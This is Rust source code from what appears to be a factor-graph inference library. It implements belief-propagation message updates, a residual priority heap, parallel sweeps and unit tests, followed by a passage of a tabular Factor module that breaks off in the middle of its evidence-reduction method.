    fn factor_of_edge(&self, eid: usize) -> usize {
        self.edge_factor[eid] as usize
    }
}

fn heap_capacity(nf: usize) -> usize {
    (nf * 8).max(1024)
}

/// Push with lazy invalidation; compacts in place (never reallocates)
/// when the preallocated capacity is reached.
fn heap_push(heap: &mut Vec<(f64, u32)>, residuals: &[f64], entry: (f64, u32)) {
    if heap.len() == heap.capacity() {
        // Keep only entries that still reflect the live residual, one per
        // factor (the first, i.e. topmost, occurrence wins).
        let mut i = 0;
        while i < heap.len() {
            let (r, fi) = heap[i];
            if (r - residuals[fi as usize]).abs() > f64::EPSILON * r.abs() {
                heap.swap_remove(i);
            } else {
                i += 1;
            }
        }
        // Restore the heap property after the retains.
        let n = heap.len();
        for i in (0..n / 2).rev() {
            sift_down(heap, i);
        }
        if heap.len() == heap.capacity() {
            // Every factor live and distinct — cannot happen with
            // capacity ≥ 8·nf, but stay safe.
            return;
        }
    }
    heap.push(entry);
    let last = heap.len() - 1;
    sift_up(heap, last);
}

fn heap_pop(heap: &mut Vec<(f64, u32)>, residuals: &[f64]) -> Option<(f64, u32)> {
    while let Some(&(r, fi)) = heap.first() {
        let n = heap.len();
        heap.swap(0, n - 1);
        heap.pop();
        if !heap.is_empty() {
            sift_down(heap, 0);
        }
        // Stale entries (superseded by a later push) are skipped.
        if (r - residuals[fi as usize]).abs() <= f64::EPSILON * r.abs() {
            return Some((r, fi));
        }
    }
    None
}

fn sift_up(heap: &mut [(f64, u32)], mut i: usize) {
    while i > 0 {
        let parent = (i - 1) / 2;
        if heap[parent].0 >= heap[i].0 {
            break;
        }
        heap.swap(parent, i);
        i = parent;
    }
}

fn sift_down(heap: &mut [(f64, u32)], mut i: usize) {
    let n = heap.len();
    loop {
        let (l, r) = (2 * i + 1, 2 * i + 2);
        let mut largest = i;
        if l < n && heap[l].0 > heap[largest].0 {
            largest = l;
        }
        if r < n && heap[r].0 > heap[largest].0 {
            largest = r;
        }
        if largest == i {
            return;
        }
        heap.swap(i, largest);
        i = largest;
    }
}

#[inline]
fn normalize_sum(v: &mut [f64]) {
    let s: f64 = v.iter().sum();
    if s > 0.0 {
        for x in v.iter_mut() {
            *x /= s;
        }
    } else {
        let u = 1.0 / v.len() as f64;
        v.fill(u);
    }
}

#[inline]
fn normalize_max(v: &mut [f64]) {
    let m = v.iter().fold(0.0f64, |acc, &x| acc.max(x));
    if m > 0.0 {
        for x in v.iter_mut() {
            *x /= m;
        }
    } else {
        v.fill(1.0);
    }
}

#[inline]
fn normalize<const MAX: bool>(v: &mut [f64]) {
    if MAX {
        normalize_max(v)
    } else {
        normalize_sum(v)
    }
}

/// Normalize-and-damp in one pass, without materializing the normalized
/// message. Equivalent to `normalize::<MAX>(fresh); damp_into(..)` up to
/// one ulp per entry (the division is replaced by a precomputed
/// reciprocal — six serialized divides per message would dominate the
/// sweep cost).
#[inline]
fn norm_damp_from<const MAX: bool>(slot: &mut [f64], fresh: &[f64], damping: f64) -> f64 {
    let norm = if MAX {
        fresh.iter().fold(0.0f64, |acc, &x| acc.max(x))
    } else {
        fresh.iter().sum()
    };
    let mut delta = 0.0f64;
    if norm > 0.0 {
        let scale = (1.0 - damping) / norm;
        for (s, &f) in slot.iter_mut().zip(fresh) {
            let new = f * scale + damping * *s;
            delta = delta.max((new - *s).abs());
            *s = new;
        }
    } else {
        let u = if MAX { 1.0 } else { 1.0 / slot.len() as f64 };
        for s in slot.iter_mut() {
            let new = (1.0 - damping) * u + damping * *s;
            delta = delta.max((new - *s).abs());
            *s = new;
        }
    }
    delta
}

/// Send one exact (undamped) var→factor message along `eid`: the
/// normalized product of the variable's other incoming messages, written
/// straight into the arena. Used by the tree sweep.
fn send_var_exact<const MAX: bool>(
    idx: &GraphIndex,
    vi: usize,
    eid: usize,
    f2v: &[f64],
    v2f: &mut [f64],
) {
    let card = idx.var_card[vi] as usize;
    let off = idx.edge_v2f_off[eid] as usize;
    let slot = &mut v2f[off..off + card];
    slot.fill(1.0);
    for k in idx.var_edge_start[vi]..idx.var_edge_start[vi + 1] {
        let other = idx.var_edge_ids[k as usize] as usize;
        if other == eid {
            continue;
        }
        let fo = idx.edge_f2v_off[other] as usize;
        for (s, &m) in slot.iter_mut().zip(&f2v[fo..fo + card]) {
            *s *= m;
        }
    }
    normalize::<MAX>(slot);
}

/// Send one damped var→factor message along `eid` (the residual
/// schedule's input-refresh step). Returns the message delta.
fn send_var_damped<const MAX: bool>(
    idx: &GraphIndex,
    eid: usize,
    f2v: &[f64],
    v2f: &mut [f64],
    scratch: &mut [f64],
    damping: f64,
) -> f64 {
    let vi = idx.edge_var[eid] as usize;
    let card = idx.var_card[vi] as usize;
    let fresh = &mut scratch[..card];
    fresh.fill(1.0);
    for k in idx.var_edge_start[vi]..idx.var_edge_start[vi + 1] {
        let other = idx.var_edge_ids[k as usize] as usize;
        if other == eid {
            continue;
        }
        let fo = idx.edge_f2v_off[other] as usize;
        for (s, &m) in fresh.iter_mut().zip(&f2v[fo..fo + card]) {
            *s *= m;
        }
    }
    let off = idx.edge_v2f_off[eid] as usize;
    norm_damp_from::<MAX>(&mut v2f[off..off + card], fresh, damping)
}

/// Send one exact (undamped) factor→var message along `eid`, written
/// straight into the arena. Used by the tree sweep.
#[allow(clippy::too_many_arguments)]
fn send_factor_exact<const MAX: bool>(
    idx: &GraphIndex,
    graph: &FactorGraph,
    fi: usize,
    eid: usize,
    v2f: &[f64],
    f2v: &mut [f64],
    prod: &mut [f64],
    digits: &mut [usize],
) {
    let edges = idx.factor_edges(fi);
    let pos = eid - edges.start;
    let table = graph.factor(FactorId(fi as u32)).table();
    let card = idx.edge_card[eid] as usize;
    let off = idx.edge_f2v_off[eid] as usize;
    // Split so `out` can be written while other f2v slots stay shared.
    let out: &mut [f64] = &mut f2v[off..off + card];
    match edges.len() {
        1 => out.copy_from_slice(&table[..card]),
        2 => {
            let other = if pos == 0 {
                edges.start + 1
            } else {
                edges.start
            };
            let oc = idx.edge_card[other] as usize;
            let m = {
                let o = idx.edge_v2f_off[other] as usize;
                &v2f[o..o + oc]
            };
            if pos == 0 {
                for (a, slot) in out.iter_mut().enumerate() {
                    let row = &table[a * oc..(a + 1) * oc];
                    let mut acc = 0.0f64;
                    if MAX {
                        for (b, &t) in row.iter().enumerate() {
                            acc = acc.max(t * m[b]);
                        }
                    } else {
                        for (b, &t) in row.iter().enumerate() {
                            acc += t * m[b];
                        }
                    }
                    *slot = acc;
                }
            } else {
                out.fill(0.0);
                for (a, &w) in m.iter().enumerate() {
                    let row = &table[a * card..(a + 1) * card];
                    if MAX {
                        for (b, &t) in row.iter().enumerate() {
                            let x = t * w;
                            if x > out[b] {
                                out[b] = x;
                            }
                        }
                    } else {
                        for (b, &t) in row.iter().enumerate() {
                            out[b] += t * w;
                        }
                    }
                }
            }
        }
        _ => {
            let size = table.len();
            let mut len = 1usize;
            prod[0] = 1.0;
            for e in edges.clone() {
                let c = idx.edge_card[e] as usize;
                let o = idx.edge_v2f_off[e] as usize;
                let m = &v2f[o..o + c];
                for prefix in (0..len).rev() {
                    let base = prod[prefix];
                    for (x, &mx) in m.iter().enumerate().rev() {
                        prod[prefix * c + x] = base * mx;
                    }
                }
                len *= c;
            }
            let stride = idx.edge_stride[eid] as usize;
            let own = {
                let o = idx.edge_v2f_off[eid] as usize;
                &v2f[o..o + card]
            };
            out.fill(0.0);
            let block = stride * card;
            let mut a0 = 0usize;
            while a0 < size {
                let mut base = a0;
                for slot in out.iter_mut() {
                    let mut acc = *slot;
                    if MAX {
                        for b in 0..stride {
                            let x = table[base + b] * prod[base + b];
                            if x > acc {
                                acc = x;
                            }
                        }
                    } else {
                        for b in 0..stride {
                            acc += table[base + b] * prod[base + b];
                        }
                    }
                    *slot = acc;
                    base += stride;
                }
                a0 += block;
            }
            for (k, slot) in out.iter_mut().enumerate() {
                if own[k] > DIV_EPS {
                    *slot /= own[k];
                } else {
                    *slot =
                        slice_leave_one_out::<MAX>(idx, table, edges.clone(), pos, k, v2f, digits);
                }
            }
        }
    }
    normalize::<MAX>(out);
}

/// Recompute all outgoing messages of variable `vi` into its contiguous
/// `v2f` block (prefix/suffix products: O(degree · card) total).
fn update_var_messages<const MAX: bool>(
    idx: &GraphIndex,
    vi: usize,
    f2v: &[f64],
    v2f_block: &mut [f64],
    pre: &mut [f64],
    suf: &mut [f64],
    damping: f64,
) -> f64 {
    let card = idx.var_card[vi] as usize;
    let edges = idx.var_edges(vi);
    let deg = edges.len();
    if deg == 0 {
        return 0.0;
    }
    if deg == 1 {
        // Sole message: the neutral element (normalized).
        let init = if MAX { 1.0 } else { 1.0 / card as f64 };
        let mut delta = 0.0f64;
        for s in v2f_block.iter_mut() {
            let new = (1.0 - damping) * init + damping * *s;
            delta = delta.max((new - *s).abs());
            *s = new;
        }
        return delta;
    }
    if deg == 2 {
        // Dominant chain case: each outgoing message is just the other
        // edge's incoming message, normalized — no products at all.
        let f0 = idx.edge_f2v_off[edges[0] as usize] as usize;
        let f1 = idx.edge_f2v_off[edges[1] as usize] as usize;
        let (out0, out1) = v2f_block.split_at_mut(card);
        let mut delta = 0.0f64;
        for (slot, inc) in [(out0, f1), (out1, f0)] {
            delta = delta.max(norm_damp_from::<MAX>(slot, &f2v[inc..inc + card], damping));
        }
        return delta;
    }
    // pre[i] = prod of incoming messages before edge i, suf[i] = after.
    for k in 0..card {
        pre[k] = 1.0;
        suf[(deg - 1) * card + k] = 1.0;
    }
    for i in 0..deg - 1 {
        let fo = idx.edge_f2v_off[edges[i] as usize] as usize;
        for k in 0..card {
            pre[(i + 1) * card + k] = pre[i * card + k] * f2v[fo + k];
        }
    }
    for i in (1..deg).rev() {
        let fo = idx.edge_f2v_off[edges[i] as usize] as usize;
        for k in 0..card {
            suf[(i - 1) * card + k] = suf[i * card + k] * f2v[fo + k];
        }
    }
    let mut delta = 0.0f64;
    for i in 0..deg {
        let slot = &mut v2f_block[i * card..(i + 1) * card];
        // Compute the fresh message in place of the suffix row (it is
        // consumed exactly once, here).
        let fresh = &mut suf[i * card..(i + 1) * card];
        for (f, &p) in fresh.iter_mut().zip(&pre[i * card..(i + 1) * card]) {
            *f *= p;
        }
        delta = delta.max(norm_damp_from::<MAX>(slot, fresh, damping));
    }
    delta
}

/// Recompute all outgoing messages of factor `fi` into its contiguous
/// `f2v` block. Stride-specialized: unary copy, pairwise mat–vec, and a
/// product-expansion + divide-out path for arity ≥ 3.
#[allow(clippy::too_many_arguments)]
fn update_factor_messages<const MAX: bool>(
    idx: &GraphIndex,
    graph: &FactorGraph,
    fi: usize,
    agreement: (f64, f64),
    v2f: &[f64],
    f2v_block: &mut [f64],
    prod: &mut [f64],
    digits: &mut [usize],
    scratch: &mut [f64],
    damping: f64,
) -> f64 {
    let edges = idx.factor_edges(fi);
    let arity = edges.len();
    let table = graph.factor(FactorId(fi as u32)).table();
    let mut delta = 0.0f64;
    match arity {
        0 => {}
        1 => {
            let card = idx.edge_card[edges.start] as usize;
            delta = norm_damp_from::<MAX>(&mut f2v_block[..card], &table[..card], damping);
        }
        2 => {
            let (e0, e1) = (edges.start, edges.start + 1);
            let (c0, c1) = (idx.edge_card[e0] as usize, idx.edge_card[e1] as usize);
            let m0 = {
                let o = idx.edge_v2f_off[e0] as usize;
                &v2f[o..o + c0]
            };
            let m1 = {
                let o = idx.edge_v2f_off[e1] as usize;
                &v2f[o..o + c1]
            };
            if !agreement.0.is_nan() {
                // Agreement table: out[a] = diff·Σm + (same−diff)·m[a]
                // (sum-product) or max(same·m[a], diff·max_{b≠a} m[b])
                // (max-product) — O(card), no table walk at all.
                let (same, diff) = agreement;
                let (out0, out1) = f2v_block.split_at_mut(c0);
                for (out, m) in [(out0, m1), (&mut *out1, m0)] {
                    let fresh = &mut scratch[..c0];
                    if MAX {
                        // max1/max2 with argmax for the leave-one-out max.
                        let (mut max1, mut arg1, mut max2) = (0.0f64, usize::MAX, 0.0f64);
                        for (b, &x) in m.iter().enumerate() {
                            if x > max1 {
                                max2 = max1;
                                max1 = x;
                                arg1 = b;
                            } else if x > max2 {
                                max2 = x;
                            }
                        }
                        for (a, f) in fresh.iter_mut().enumerate() {
                            let other = if a == arg1 { max2 } else { max1 };
                            *f = (same * m[a]).max(diff * other);
                        }
                    } else {
                        let total: f64 = m.iter().sum();
                        for (a, f) in fresh.iter_mut().enumerate() {
                            *f = diff * (total - m[a]) + same * m[a];
                        }
                    }
                    delta = delta.max(norm_damp_from::<MAX>(out, fresh, damping));
                }
                return delta;
            }
            // Both directions in one table pass: row a contributes its
            // m1-weighted fold to out0[a] and its m0[a]-weighted row to
            // out1.
            let (fresh0, rest) = scratch.split_at_mut(c0);
            let fresh1 = &mut rest[..c1];
            fresh1.fill(0.0);
            for (a, f0) in fresh0.iter_mut().enumerate() {
                let row = &table[a * c1..(a + 1) * c1];
                let w0 = m0[a];
                let mut acc = 0.0f64;
                if MAX {
                    for ((&t, &m), f1) in row.iter().zip(m1).zip(fresh1.iter_mut()) {
                        acc = acc.max(t * m);
                        let x = t * w0;
                        if x > *f1 {
                            *f1 = x;
                        }
                    }
                } else {
                    for ((&t, &m), f1) in row.iter().zip(m1).zip(fresh1.iter_mut()) {
                        acc += t * m;
                        *f1 += t * w0;
                    }
                }
                *f0 = acc;
            }
            let (out0, out1) = f2v_block.split_at_mut(c0);
            delta = delta.max(norm_damp_from::<MAX>(out0, fresh0, damping));
            delta = delta.max(norm_damp_from::<MAX>(&mut out1[..c1], fresh1, damping));
        }
        _ => {
            let size = table.len();
            // Expand prod[idx] = Π_q m_q[digit_q(idx)] in O(size): grow
            // the prefix-product table position by position, in place,
            // back to front.
            let mut len = 1usize;
            prod[0] = 1.0;
            for e in edges.clone() {
                let c = idx.edge_card[e] as usize;
                let o = idx.edge_v2f_off[e] as usize;
                let m = &v2f[o..o + c];
                for prefix in (0..len).rev() {
                    let base = prod[prefix];
                    for (x, &mx) in m.iter().enumerate().rev() {
                        prod[prefix * c + x] = base * mx;
                    }
                }
                len *= c;
            }
            debug_assert_eq!(len, size);
            let mut block_off = 0usize;
            for (pos, e) in edges.clone().enumerate() {
                let c = idx.edge_card[e] as usize;
                let stride = idx.edge_stride[e] as usize;
                let own = {
                    let o = idx.edge_v2f_off[e] as usize;
                    &v2f[o..o + c]
                };
                let fresh = &mut scratch[..c];
                fresh.fill(0.0);
                // Stride walk: idx = a·(stride·c) + k·stride + b.
                let block = stride * c;
                let mut a0 = 0usize;
                while a0 < size {
                    let mut base = a0;
                    for f in fresh.iter_mut() {
                        let mut acc = *f;
                        if MAX {
                            for b in 0..stride {
                                let x = table[base + b] * prod[base + b];
                                if x > acc {
                                    acc = x;
                                }
                            }
                        } else {
                            for b in 0..stride {
                                acc += table[base + b] * prod[base + b];
                            }
                        }
                        *f = acc;
                        base += stride;
                    }
                    a0 += block;
                }
                // Divide out this position's own incoming message; exact
                // odometer fallback where it is (near-)zero.
                for (k, f) in fresh.iter_mut().enumerate() {
                    if own[k] > DIV_EPS {
                        *f /= own[k];
                    } else {
                        *f = slice_leave_one_out::<MAX>(
                            idx,
                            table,
                            edges.clone(),
                            pos,
                            k,
                            v2f,
                            digits,
                        );
                    }
                }
                delta = delta.max(norm_damp_from::<MAX>(
                    &mut f2v_block[block_off..block_off + c],
                    fresh,
                    damping,
                ));
                block_off += c;
            }
        }
    }
    delta
}

/// Exact Σ/max over the table slice `digit_pos = value` of
/// `T · Π_{q≠pos} m_q` — the odometer fallback used only when a message
/// entry is (near-)zero.
fn slice_leave_one_out<const MAX: bool>(
    idx: &GraphIndex,
    table: &[f64],
    edges: std::ops::Range<usize>,
    pos: usize,
    value: usize,
    v2f: &[f64],
    digits: &mut [usize],
) -> f64 {
    let arity = edges.len();
    let digits = &mut digits[..arity];
    digits.fill(0);
    digits[pos] = value;
    let mut acc = 0.0f64;
    'outer: loop {
        let mut t_idx = 0usize;
        let mut w = 1.0f64;
        for (p, e) in edges.clone().enumerate() {
            t_idx += digits[p] * idx.edge_stride[e] as usize;
            if p != pos {
                let o = idx.edge_v2f_off[e] as usize;
                w *= v2f[o + digits[p]];
            }
        }
        let x = table[t_idx] * w;
        if MAX {
            if x > acc {
                acc = x;
            }
        } else {
            acc += x;
        }
        // Advance the odometer over every position except `pos`.
        for p in (0..arity).rev() {
            if p == pos {
                continue;
            }
            digits[p] += 1;
            if digits[p] < idx.edge_card[edges.start + p] as usize {
                continue 'outer;
            }
            digits[p] = 0;
        }
        break;
    }
    acc
}

// ---- parallel sweeps (recursive disjoint-slice splits) ----

/// Below this many nodes a parallel split runs serially.
const PAR_GRAIN: usize = 256;

fn par_var_sweep<const MAX: bool>(
    idx: &GraphIndex,
    f2v: &[f64],
    lo: usize,
    hi: usize,
    v2f_block: &mut [f64],
    damping: f64,
) -> f64 {
    if hi - lo <= PAR_GRAIN {
        let block_base = if lo < idx.nv {
            idx.var_v2f_start[lo] as usize
        } else {
            0
        };
        let mut pre = vec![0.0; idx.max_degree * idx.max_card];
        let mut suf = vec![0.0; idx.max_degree * idx.max_card];
        let mut delta = 0.0f64;
        for vi in lo..hi {
            let start = idx.var_v2f_start[vi] as usize - block_base;
            let len = idx.var_edges(vi).len() * idx.var_card[vi] as usize;
            let d = update_var_messages::<MAX>(
                idx,
                vi,
                f2v,
                &mut v2f_block[start..start + len],
                &mut pre,
                &mut suf,
                damping,
            );
            delta = delta.max(d);
        }
        return delta;
    }
    let mid = (lo + hi) / 2;
    let base = idx.var_v2f_start[lo] as usize;
    let split = idx.var_v2f_start[mid] as usize - base;
    let (left, right) = v2f_block.split_at_mut(split);
    let (d1, d2) = rayon::join(
        || par_var_sweep::<MAX>(idx, f2v, lo, mid, left, damping),
        || par_var_sweep::<MAX>(idx, f2v, mid, hi, right, damping),
    );
    d1.max(d2)
}

fn factor_f2v_base(idx: &GraphIndex, fi: usize) -> usize {
    let e = idx.factor_edge_start[fi] as usize;
    if e < idx.edge_f2v_off.len() {
        idx.edge_f2v_off[e] as usize
    } else {
        idx.arena_len
    }
}

#[allow(clippy::too_many_arguments)]
fn par_factor_sweep<const MAX: bool>(
    idx: &GraphIndex,
    graph: &FactorGraph,
    agreement: &[(f64, f64)],
    v2f: &[f64],
    lo: usize,
    hi: usize,
    f2v_block: &mut [f64],
    damping: f64,
) -> f64 {
    if hi - lo <= PAR_GRAIN {
        let block_base = if lo < idx.nf {
            factor_f2v_base(idx, lo)
        } else {
            0
        };
        let mut prod = vec![0.0; idx.max_table];
        let mut digits = vec![0usize; idx.max_arity];
        let mut scratch = vec![0.0; 2 * idx.max_card];
        let mut delta = 0.0f64;
        #[allow(clippy::needless_range_loop)] // fi also names the factor itself
        for fi in lo..hi {
            let edges = idx.factor_edges(fi);
            if edges.is_empty() {
                continue;
            }
            let start = idx.edge_f2v_off[edges.start] as usize - block_base;
            let end = idx.edge_f2v_off[edges.end - 1] as usize
                + idx.edge_card[edges.end - 1] as usize
                - block_base;
            let d = update_factor_messages::<MAX>(
                idx,
                graph,
                fi,
                agreement[fi],
                v2f,
                &mut f2v_block[start..end],
                &mut prod,
                &mut digits,
                &mut scratch,
                damping,
            );
            delta = delta.max(d);
        }
        return delta;
    }
    let mid = (lo + hi) / 2;
    let base = factor_f2v_base(idx, lo);
    let split = factor_f2v_base(idx, mid) - base;
    let (left, right) = f2v_block.split_at_mut(split);
    let (d1, d2) = rayon::join(
        || par_factor_sweep::<MAX>(idx, graph, agreement, v2f, lo, mid, left, damping),
        || par_factor_sweep::<MAX>(idx, graph, agreement, v2f, mid, hi, right, damping),
    );
    d1.max(d2)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::factor::Factor;

    fn chain(n: usize, card: usize) -> FactorGraph {
        let mut g = FactorGraph::new();
        let vars: Vec<VarId> = (0..n).map(|_| g.add_variable(card)).collect();
        g.add_factor(Factor::from_fn(vec![vars[0]], vec![card], |a| {
            1.0 + a[0] as f64
        }));
        for t in 1..n {
            g.add_factor(Factor::from_fn(
                vec![vars[t - 1], vars[t]],
                vec![card, card],
                |a| 1.0 + ((a[0] * 3 + a[1] * 7) % 5) as f64,
            ));
        }
        g
    }

    #[test]
    fn index_offsets_are_consistent() {
        let g = chain(5, 3);
        let idx = GraphIndex::build(&g);
        assert_eq!(idx.nv, 5);
        assert_eq!(idx.nf, 5);
        assert_eq!(idx.arena_len, (1 + 4 * 2) * 3);
        // Every edge's v2f offset lies inside its variable's block.
        for eid in 0..idx.edge_var.len() {
            let v = idx.edge_var[eid] as usize;
            let lo = idx.var_v2f_start[v];
            let hi = lo + idx.var_edges(v).len() as u32 * idx.var_card[v];
            assert!((lo..hi).contains(&idx.edge_v2f_off[eid]));
        }
        // Strides: pairwise factors are row-major, last var fastest.
        let e = idx.factor_edges(1);
        assert_eq!(idx.edge_stride[e.start], 3);
        assert_eq!(idx.edge_stride[e.start + 1], 1);
    }

    #[test]
    fn matches_detects_shape_changes() {
        let g = chain(4, 2);
        let idx = GraphIndex::build(&g);
        assert!(idx.matches(&g));
        let g2 = chain(5, 2);
        assert!(!idx.matches(&g2));
        let g3 = chain(4, 3);
        assert!(!idx.matches(&g3));
    }

    #[test]
    fn factor_of_edge_inverts_csr() {
        let g = chain(6, 2);
        let idx = GraphIndex::build(&g);
        for fi in 0..idx.nf {
            for e in idx.factor_edges(fi) {
                assert_eq!(idx.factor_of_edge(e), fi, "edge {e}");
            }
        }
    }

    #[test]
    fn heap_push_pop_priority() {
        let residuals = vec![0.5, 0.9, 0.1];
        let mut heap = Vec::with_capacity(8);
        heap_push(&mut heap, &residuals, (0.5, 0));
        heap_push(&mut heap, &residuals, (0.9, 1));
        heap_push(&mut heap, &residuals, (0.1, 2));
        assert_eq!(heap_pop(&mut heap, &residuals), Some((0.9, 1)));
        assert_eq!(heap_pop(&mut heap, &residuals), Some((0.5, 0)));
        assert_eq!(heap_pop(&mut heap, &residuals), Some((0.1, 2)));
        assert_eq!(heap_pop(&mut heap, &residuals), None);
    }

    #[test]
    fn heap_skips_stale_entries() {
        let mut residuals = vec![0.5];
        let mut heap = Vec::with_capacity(8);
        heap_push(&mut heap, &residuals, (0.5, 0));
        residuals[0] = 0.7;
        heap_push(&mut heap, &residuals, (0.7, 0));
        assert_eq!(heap_pop(&mut heap, &residuals), Some((0.7, 0)));
        assert_eq!(
            heap_pop(&mut heap, &residuals),
            None,
            "stale 0.5 entry dropped"
        );
    }
}
