//! Tabular factors over discrete variables.
//!
//! A [`Factor`] holds a non-negative table over the joint assignments of
//! its scope. Assignments are indexed row-major with the **last** scope
//! variable varying fastest. Factor product, marginalization (sum and max),
//! evidence reduction and normalization are the primitive operations that
//! belief propagation and exact inference are built from.

use serde::{Deserialize, Serialize};

use crate::variable::VarId;

/// A tabular factor.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Factor {
    vars: Vec<VarId>,
    cards: Vec<usize>,
    table: Vec<f64>,
}

impl Factor {
    /// Create a factor from an explicit table.
    ///
    /// # Panics
    /// Panics if the table length does not equal the product of
    /// cardinalities, if scope/cardinality lengths differ, if the scope
    /// contains duplicates, or if any entry is negative/NaN.
    pub fn new(vars: Vec<VarId>, cards: Vec<usize>, table: Vec<f64>) -> Factor {
        assert_eq!(vars.len(), cards.len(), "scope/cardinality length mismatch");
        let size: usize = cards.iter().product();
        assert_eq!(
            table.len(),
            size,
            "table size {} != expected {}",
            table.len(),
            size
        );
        for i in 0..vars.len() {
            for j in (i + 1)..vars.len() {
                assert_ne!(vars[i], vars[j], "duplicate variable {} in scope", vars[i]);
            }
        }
        assert!(
            table.iter().all(|v| v.is_finite() && *v >= 0.0),
            "factor entries must be finite and non-negative"
        );
        Factor { vars, cards, table }
    }

    /// Create a factor by evaluating `f` on every assignment.
    pub fn from_fn(vars: Vec<VarId>, cards: Vec<usize>, f: impl Fn(&[usize]) -> f64) -> Factor {
        let size: usize = cards.iter().product();
        let mut table = Vec::with_capacity(size);
        let mut assignment = vec![0usize; cards.len()];
        for _ in 0..size {
            table.push(f(&assignment));
            // Increment mixed-radix counter, last digit fastest.
            for d in (0..cards.len()).rev() {
                assignment[d] += 1;
                if assignment[d] < cards[d] {
                    break;
                }
                assignment[d] = 0;
            }
        }
        Factor::new(vars, cards, table)
    }

    /// A uniform (all-ones) factor over the scope.
    pub fn uniform(vars: Vec<VarId>, cards: Vec<usize>) -> Factor {
        let size: usize = cards.iter().product();
        Factor::new(vars, cards, vec![1.0; size])
    }

    /// Scope of the factor.
    pub fn vars(&self) -> &[VarId] {
        &self.vars
    }

    /// Cardinalities, parallel to [`Factor::vars`].
    pub fn cards(&self) -> &[usize] {
        &self.cards
    }

    /// Raw table (row-major, last variable fastest).
    pub fn table(&self) -> &[f64] {
        &self.table
    }

    /// Overwrite the table in place by evaluating `f` on every
    /// assignment, without reallocating. The scope (and therefore the
    /// table length) is unchanged; entries must stay finite and
    /// non-negative, as in [`Factor::new`].
    pub fn fill_from_fn(&mut self, f: impl FnMut(&[usize]) -> f64) {
        let mut f = f;
        let mut assignment = [0usize; 8];
        let arity = self.cards.len();
        assert!(arity <= 8, "fill_from_fn supports arity ≤ 8");
        let assignment = &mut assignment[..arity];
        for slot in &mut self.table {
            let v = f(assignment);
            debug_assert!(
                v.is_finite() && v >= 0.0,
                "factor entries must stay non-negative"
            );
            *slot = v;
            for d in (0..arity).rev() {
                assignment[d] += 1;
                if assignment[d] < self.cards[d] {
                    break;
                }
                assignment[d] = 0;
            }
        }
    }

    /// Number of table entries.
    pub fn size(&self) -> usize {
        self.table.len()
    }

    /// Position of a variable in the scope.
    pub fn position(&self, var: VarId) -> Option<usize> {
        self.vars.iter().position(|v| *v == var)
    }

    /// Flat index of an assignment (values parallel to scope order).
    pub fn index_of(&self, assignment: &[usize]) -> usize {
        debug_assert_eq!(assignment.len(), self.vars.len());
        let mut idx = 0;
        for (d, &val) in assignment.iter().enumerate() {
            debug_assert!(
                val < self.cards[d],
                "value {} out of range for position {}",
                val,
                d
            );
            idx = idx * self.cards[d] + val;
        }
        idx
    }

    /// Table value at an assignment.
    pub fn value(&self, assignment: &[usize]) -> f64 {
        self.table[self.index_of(assignment)]
    }

    /// Decode a flat index into an assignment.
    pub fn assignment_of(&self, mut idx: usize) -> Vec<usize> {
        let mut assignment = vec![0usize; self.cards.len()];
        for d in (0..self.cards.len()).rev() {
            assignment[d] = idx % self.cards[d];
            idx /= self.cards[d];
        }
        assignment
    }

    /// Pointwise product with another factor, over the union scope.
    pub fn product(&self, other: &Factor) -> Factor {
        // Union scope: self's vars, then other's vars not already present.
        let mut vars = self.vars.clone();
        let mut cards = self.cards.clone();
        for (i, v) in other.vars.iter().enumerate() {
            if !vars.contains(v) {
                vars.push(*v);
                cards.push(other.cards[i]);
            }
        }
        // Map each result dimension to positions in the operand scopes.
        let self_pos: Vec<Option<usize>> = vars.iter().map(|v| self.position(*v)).collect();
        let other_pos: Vec<Option<usize>> = vars.iter().map(|v| other.position(*v)).collect();
        let size: usize = cards.iter().product();
        let mut table = Vec::with_capacity(size);
        let mut assignment = vec![0usize; cards.len()];
        let mut a_self = vec![0usize; self.vars.len()];
        let mut a_other = vec![0usize; other.vars.len()];
        for _ in 0..size {
            for (d, &val) in assignment.iter().enumerate() {
                if let Some(p) = self_pos[d] {
                    a_self[p] = val;
                }
                if let Some(p) = other_pos[d] {
                    a_other[p] = val;
                }
            }
            table.push(self.value(&a_self) * other.value(&a_other));
            for d in (0..cards.len()).rev() {
                assignment[d] += 1;
                if assignment[d] < cards[d] {
                    break;
                }
                assignment[d] = 0;
            }
        }
        Factor::new(vars, cards, table)
    }

    fn marginalize_impl(&self, keep: &[VarId], max_mode: bool) -> Factor {
        let kept: Vec<usize> = keep
            .iter()
            .map(|v| {
                self.position(*v)
                    .expect("marginalize: variable not in scope")
            })
            .collect();
        let out_cards: Vec<usize> = kept.iter().map(|&p| self.cards[p]).collect();
        let out_size: usize = out_cards.iter().product();
        let init = if max_mode { f64::NEG_INFINITY } else { 0.0 };
        let mut out = vec![init; out_size];
        let mut assignment = vec![0usize; self.cards.len()];
        for &v in &self.table {
            let mut out_idx = 0;
            for (k, &p) in kept.iter().enumerate() {
                out_idx = out_idx * out_cards[k] + assignment[p];
            }
            if max_mode {
                if v > out[out_idx] {
                    out[out_idx] = v;
                }
            } else {
                out[out_idx] += v;
            }
            for d in (0..self.cards.len()).rev() {
                assignment[d] += 1;
                if assignment[d] < self.cards[d] {
                    break;
                }
                assignment[d] = 0;
            }
        }
        if max_mode {
            for v in &mut out {
                if *v == f64::NEG_INFINITY {
                    *v = 0.0;
                }
            }
        }
        Factor::new(keep.to_vec(), out_cards, out)
    }

    /// Sum out all variables except `keep` (in the given order).
    pub fn marginalize(&self, keep: &[VarId]) -> Factor {
        self.marginalize_impl(keep, false)
    }

    /// Max out all variables except `keep` (in the given order).
    pub fn max_marginalize(&self, keep: &[VarId]) -> Factor {
        self.marginalize_impl(keep, true)
    }

    /// Condition on evidence `var = value`, removing `var` from the scope.
    pub fn reduce(&self, var: VarId, value: usize) -> Factor {
        let pos = self.position(var).expect("reduce: variable not in scope");
        assert!(value < self.cards[pos], "evidence value out of range");
        let mut vars = self.vars.clone();
        let mut cards = self.cards.clone();
        vars.remove(pos);
        cards.remove(pos);
        let out_size: usize = cards.iter().product();
        let mut table = Vec::with_capacity(out_size);
        let mut assignment = vec![0usize; cards.len()];
        let mut full = vec![0usize; self.cards.len()];
        for _ in 0..out_size.max(1) {
            if cards.is_empty() {
                full[pos] = value;
                table.push(self.value(&full));
                break;
            }
            let mut fi = 0;
            for (d, &val) in assignment.iter().enumerate() {
                let target = if d < pos { d } else { d + 1 };
                full[target] = val;
                fi += 1;
            }
            debug_assert_eq!(fi, assignment.len());
            full[pos] = value;
            table.push(self.value(&full));
